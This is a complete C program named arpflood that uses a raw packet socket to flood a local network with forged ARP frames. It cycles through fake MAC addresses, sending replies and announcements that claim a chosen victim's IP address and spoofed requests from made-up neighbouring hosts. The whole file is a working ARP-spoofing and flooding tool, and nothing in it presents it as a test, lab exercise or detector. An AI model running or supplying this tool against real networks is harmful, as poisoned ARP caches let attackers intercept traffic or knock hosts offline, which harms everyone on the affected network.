/* Floods an interface with forged ARP packets: arpflood INTERFACE VICTIM TARGET COUNT

   In turn, each with another MAC address as its sender: a reply to TARGET and an announcement that
   claim VICTIM's address, a reply in a stranger's name, and a stranger's request for TARGET.
   Prints how many were sent. */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

enum { FRAME_BYTES = 60, REQUEST = 1, REPLY = 2, STRANGERS = 200 };

struct flood {
    uint32_t victim, target; /* network order */
    uint8_t frame[FRAME_BYTES];
};

/* Strangers live beside the victim: its address with another last byte, from 20 on. */
static uint32_t stranger_of(const struct flood *flood, uint32_t number)
{
    return (flood->victim & htonl(0xffffff00)) | htonl(20 + number % STRANGERS);
}

static void build(struct flood *flood, uint32_t number)
{
    static const uint8_t head[] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 6, 0, 0, 0, 0,
                                   0,    8,    6,    0,    1,    8,    0, 6, 4, 0};
    uint32_t mac = htonl(number), kind = number % 4;
    uint32_t sender = kind < 2 ? flood->victim : stranger_of(flood, number / 4);
    uint32_t target = kind == 1 ? sender : flood->target;
    memset(flood->frame, 0, FRAME_BYTES);
    memcpy(flood->frame, head, sizeof head);
    flood->frame[21] = kind % 2 ? REQUEST : REPLY;
    memcpy(flood->frame + 8, &mac, 4);
    memcpy(flood->frame + 22, flood->frame + 6, 6);
    memcpy(flood->frame + 28, &sender, 4);
    memcpy(flood->frame + 38, &target, 4);
}

int main(int argc, char **argv)
{
    struct flood flood;
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_halen = 6};
    if (argc != 5 || inet_pton(AF_INET, argv[2], &flood.victim) != 1 ||
        inet_pton(AF_INET, argv[3], &flood.target) != 1) {
        fprintf(stderr, "usage: arpflood INTERFACE VICTIM TARGET COUNT\n");
        return 2;
    }
    to.sll_ifindex = (int)if_nametoindex(argv[1]);
    int fd = socket(AF_PACKET, SOCK_RAW, 0);
    uint32_t count = (uint32_t)strtoul(argv[4], NULL, 10);
    for (uint32_t i = 0; i < count; i++) {
        build(&flood, i);
        while (sendto(fd, flood.frame, FRAME_BYTES, 0, (struct sockaddr *)&to, sizeof to) < 0)
            if (errno != ENOBUFS && errno != EAGAIN) {
                perror("arpflood");
                return 1;
            }
    }
    printf("%u\n", count);
    return 0;
}
